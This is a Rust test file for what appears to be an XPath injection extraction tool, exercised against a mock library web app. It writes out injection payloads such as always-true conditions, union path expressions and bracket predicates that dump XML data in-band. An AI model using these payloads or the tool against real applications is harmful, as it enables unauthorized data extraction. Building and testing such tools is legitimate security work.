//! In-band extraction tests against a mock reflective application.

use wiremock::matchers::{method, query_param};
use wiremock::{Mock, MockServer, ResponseTemplate};
use xtractor::{inband_extract, make_match_function, AttackContext, Encoding, INJECTORS};

async fn mount(server: &MockServer, param: &str, value: &str, body: &str) {
    Mock::given(method("GET"))
        .and(query_param(param, value))
        .respond_with(ResponseTemplate::new(200).set_body_string(body))
        .with_priority(1)
        .mount(server)
        .await;
}

async fn mount_fallback(server: &MockServer, body: &str) {
    Mock::given(method("GET"))
        .respond_with(ResponseTemplate::new(200).set_body_string(body))
        .with_priority(10)
        .mount(server)
        .await;
}

#[tokio::test]
async fn test_simple_diff_extracts_all_rows() {
    // Single-parameter app: the always-true payload makes the query return
    // every row, and the diff against the false baseline yields them.
    let server = MockServer::start().await;
    mount(
        &server,
        "title",
        "Bible and 1=2",
        "<html><h1>Library</h1><p>No results</p></html>",
    )
    .await;
    mount(
        &server,
        "title",
        "Bible and true() or true()",
        "<html><h1>Library</h1><p>Genesis</p><p>Exodus</p><p>Kings</p></html>",
    )
    .await;
    mount_fallback(&server, "<html><h1>Library</h1><p>No results</p></html>").await;

    let context = AttackContext::new(
        server.uri(),
        "GET",
        "title",
        vec![("title".to_string(), "Bible".to_string())],
        make_match_function(None, Some(("Genesis".to_string(), false))),
        5,
        Encoding::Url,
    )
    .with_inband(true);

    let attack = context.start(Some(INJECTORS[0])).expect("session");
    let lines = inband_extract(&attack)
        .await
        .expect("extraction")
        .expect("data found");
    assert_eq!(lines, vec!["Genesis", "Exodus", "Kings"]);
}

#[tokio::test]
async fn test_tree_traversal_enumerates_row_limited_app() {
    // Two-parameter app whose normal responses never show data (a hard row
    // limit): the DFS unions positional paths into the secondary parameter
    // while the target parameter carries the false payload.
    let server = MockServer::start().await;

    mount(&server, "sort", "1 | /*[1]", "<div>Row</div>").await;
    mount(
        &server,
        "sort",
        "1 | /*[1]/*[1]",
        "<div>Row</div><p>Genesis</p>",
    )
    .await;
    mount(
        &server,
        "sort",
        "1 | /*[1]/*[2]",
        "<div>Row</div><p>Exodus</p>",
    )
    .await;
    mount_fallback(&server, "<html>Nothing</html>").await;

    let context = AttackContext::new(
        server.uri(),
        "GET",
        "title",
        vec![
            ("title".to_string(), "Bible".to_string()),
            ("sort".to_string(), "1".to_string()),
        ],
        make_match_function(None, Some(("Row".to_string(), false))),
        5,
        Encoding::Url,
    )
    .with_inband(true);

    let attack = context.start(Some(INJECTORS[0])).expect("session");
    let lines = inband_extract(&attack)
        .await
        .expect("extraction")
        .expect("data found");
    assert_eq!(lines, vec!["Genesis", "Exodus"]);
}

#[tokio::test]
async fn test_inband_returns_none_when_nothing_reflects() {
    // Non-reflective app: every response is identical, so in-band
    // extraction reports None and the caller falls back to blind mode.
    let server = MockServer::start().await;
    mount_fallback(&server, "<html>static page</html>").await;

    let context = AttackContext::new(
        server.uri(),
        "GET",
        "title",
        vec![("title".to_string(), "Bible".to_string())],
        make_match_function(None, Some(("never".to_string(), false))),
        5,
        Encoding::Url,
    )
    .with_inband(true);

    let attack = context.start(Some(INJECTORS[0])).expect("session");
    let lines = inband_extract(&attack).await.expect("extraction");
    assert!(lines.is_none());
}

#[tokio::test]
async fn test_builder_injection_falls_back_to_true_probe() {
    // Builder payloads cannot render the raw "true() or true()" string;
    // the extractor must fall back to the standard true probe, which
    // filters by the working value but still diffs.
    let server = MockServer::start().await;
    mount(
        &server,
        "title",
        "Bible[false()]",
        "<html><p>No results</p></html>",
    )
    .await;
    mount(
        &server,
        "title",
        "Bible[true()]",
        "<html><p>Genesis</p></html>",
    )
    .await;
    mount_fallback(&server, "<html><p>No results</p></html>").await;

    let element_postfix = INJECTORS
        .iter()
        .find(|i| i.name == "element name - postfix")
        .copied()
        .expect("catalog entry");

    let context = AttackContext::new(
        server.uri(),
        "GET",
        "title",
        vec![("title".to_string(), "Bible".to_string())],
        make_match_function(None, Some(("Genesis".to_string(), false))),
        5,
        Encoding::Url,
    )
    .with_inband(true);

    let attack = context.start(Some(element_postfix)).expect("session");
    let lines = inband_extract(&attack)
        .await
        .expect("extraction")
        .expect("data found");
    assert_eq!(lines, vec!["Genesis"]);
}
